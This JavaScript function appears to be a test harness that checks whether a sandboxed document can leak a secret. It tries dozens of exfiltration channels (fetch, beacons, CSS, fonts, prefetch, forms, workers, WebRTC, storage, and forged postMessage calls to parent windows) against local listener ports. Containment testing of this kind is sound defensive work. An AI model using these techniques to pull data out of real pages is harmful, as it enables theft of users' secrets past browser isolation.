/**
 * Tries to carry `secret` out of a document, in every way that leaves the document where it is. `place` and the name of
 * the way stand in each address, `/leak/<place>/<way>`, so that whoever hears it knows how it came.
 *
 * @typedef {{ place: string, secret: string, targets: string[], ports: Record<string, number>, worker: string }} Attack
 *   `targets` end in a slash; `ports` has what names itself by its port alone; `worker`: source of `worker.js`
 */
async (/** @type {Attack} */ { place, secret, targets, ports, worker }) => {
  const make = (name, properties, parent = document.body) => parent.append(Object.assign(document.createElement(name), properties));
  const link = (properties) => make("link", properties, document.head);
  const style = (text) => make("style", { textContent: text });
  const frame = (properties = {}) => document.body.appendChild(Object.assign(document.createElement("iframe"), properties));
  const port = (way) => ports[`${place} ${way}`];

  const whither = `http://127.0.0.1:${port("preconnect")}`;
  const preconnect = (made) => {
    document.head.append(Object.assign(made, { rel: "preconnect", href: whither }));
    return made;
  };

  const child = () => frame({ name: `leak-${(children += 1)}` }).name;
  let children = 0;

  const follow = (properties) => {
    const anchor = document.body.appendChild(document.createElement("a"));
    Object.assign(anchor, { target: child(), ...properties }).click();
  };

  const submit = (to, target) => {
    const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: to, method: "post", target }));
    make("input", { name: "secret", value: secret }, form);
    form.submit();
  };

  const callByStun = async (Peer, way) => {
    const servers = ["127.0.0.1", ...ports.addresses].map((host) => ({ urls: `stun:${host}:${port(way)}` }));
    const peer = new Peer({ iceServers: servers });
    peer.createDataChannel("leak");
    await peer.setLocalDescription(await peer.createOffer());
  };

  const startWorker = (way, address) => new Worker(`${address}#${encodeURIComponent(JSON.stringify({ place: way, secret, targets }))}`);

  /** @type {Record<string, (to: string) => unknown>} */
  const ways = {
    fetch: (to) => fetch(to, { mode: "no-cors" }),
    "fetch-keepalive": (to) => fetch(to, { mode: "no-cors", method: "POST", body: secret, keepalive: true }),
    xhr: (to) => {
      const request = new XMLHttpRequest();
      request.open("GET", to);
      request.send();
    },
    websocket: (to) => new WebSocket(to.replace("http", "ws")),
    eventsource: (to) => new EventSource(to),
    beacon: (to) => navigator.sendBeacon(to, secret),
    image: (to) => (new Image().src = to),
    "image-element": (to) => make("img", { src: to }),
    css: (to) => style(`body { background: url("${to}") }`),
    "css-import": (to) => style(`@import "${to}";`),
    "css-set-by-script": (to) => document.body.style.setProperty("background-image", `url("${to}")`),
    stylesheet: (to) => link({ rel: "stylesheet", href: to }),
    font: (to) => new FontFace("leak", `url("${to}")`).load(),
    script: (to) => make("script", { src: to }),
    import: (to) => import(to),
    audio: (to) => Object.assign(new Audio(), { preload: "auto", src: to }),
    markup: (to) => document.body.insertAdjacentHTML("beforeend", `<img src="${to}"><iframe src="${to}"></iframe>`),
    "style-of-the-frame": (to) => document.querySelector("style")?.append(`@import "${to}"; body { background: url("${to}") }`),
    object: (to) => make("object", { data: to }),
    embed: (to) => make("embed", { src: to }),
    frame: (to) => make("iframe", { src: to }),
    svg: (to) => document.body.insertAdjacentHTML("beforeend", `<svg><image href="${to}"/><use href="${to}"/></svg>`),
    icon: (to) => link({ rel: "icon", href: to }),
    manifest: (to) => link({ rel: "manifest", href: to }),
    prefetch: (to) => link({ rel: "prefetch", href: to }),
    preload: (to) => link({ rel: "preload", as: "image", href: to }),
    modulepreload: (to) => link({ rel: "modulepreload", href: to }),
    prerender: (to) => make("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: [to] }], prefetch: [{ urls: [to] }] }) }),
    ping: (to) => follow({ href: location.href, ping: to }),
    download: (to) => follow({ href: to, download: "leak" }),
    "link-in-frame": (to) => follow({ href: to }),
    "link-in-window": (to) => follow({ href: to, target: "_blank" }),
    "form-in-frame": (to) => submit(to, child()),
    "form-in-window": (to) => submit(to, "_blank"),
    popup: (to) => open(to),
    "shared-worker": (to) => new SharedWorker(to),
    "service-worker": (to) => navigator.serviceWorker.register(to),
  };

  /** @type {Record<string, () => unknown>} */
  const once = {
    preconnect: () => link({ rel: "preconnect", href: whither }),
    "preconnect in capitals": () => preconnect(document.createElement("LINK")),
    "preconnect by namespace": () => preconnect(document.createElementNS("http://www.w3.org/1999/xhtml", "link")),
    "preconnect in markup": () => {
      const [some] = document.querySelectorAll("p");
      some?.setHTMLUnsafe?.(`<link rel="preconnect" href="${whither}">`);
      if (some) some.innerHTML = `<link rel="preconnect" href="${whither}">`;
    },
    "preconnect of a parsed document": () =>
      document.body.append(...new DOMParser().parseFromString(`<body><link rel="preconnect" href="${whither}">`, "text/html").body.children),
    "preconnect from a fragment": () =>
      document.body.append(document.createRange().createContextualFragment(`<link rel="preconnect" href="${whither}">`)),
    "preconnect from another document": () =>
      document.body.append(document.adoptNode(preconnect(document.implementation.createHTMLDocument().createElement("link")))),
    "preconnect from an XML document": () =>
      document.body.append(preconnect(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link").documentElement)),
    webtransport: () => new WebTransport(`https://127.0.0.1:${port("webtransport")}/`),
    webrtc: () => callByStun(globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection, "webrtc"),
    "webrtc of a child": () => callByStun(frame().contentWindow?.RTCPeerConnection, "webrtc of a child"),
    "blob worker": () => startWorker(`${place}s-blob-worker`, URL.createObjectURL(new Blob([worker], { type: "text/javascript" }))),
    "worker by URL": () => place === "page" || startWorker(`${place}s-worker-by-url`, new URL("leak-worker.js", targets[1])),
    localStorage: () => localStorage.setItem("leak", secret),
    sessionStorage: () => sessionStorage.setItem("leak", secret),
    cookie: () => (document.cookie = `leak=${secret}; path=/`),
    indexedDB: () => indexedDB.open(secret),
    caches: () => caches.open(secret),
    broadcast: () => new BroadcastChannel("leak").postMessage(secret),
    "parent's document": () => parent !== self && (parent.document.body.dataset.leak = secret),
    "parent's address": () => parent !== self && parent.history.replaceState(null, "", `#${secret}`),
    "message to the page": () => {
      for (const window of new Set([parent, top, opener])) {
        if (window === self) continue;
        for (const type of ["hello", "load", "height", secret]) {
          window?.postMessage({ tag: "signature-checker", type, pixels: secret, reason: secret, file: secret }, "*");
        }
      }
    },
  };

  const attempt = async (way) => {
    try {
      await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 500))]);
    } catch {
      // Refused, as it should be; what matters is what others hear.
    }
  };
  const sent = Object.entries(ways).flatMap(([name, way]) =>
    targets.map((target) => attempt(() => way(`${target}leak/${place}/${name}?${encodeURIComponent(secret)}`))),
  );
  await Promise.all([...sent, ...Object.values(once).map(attempt)]);
}
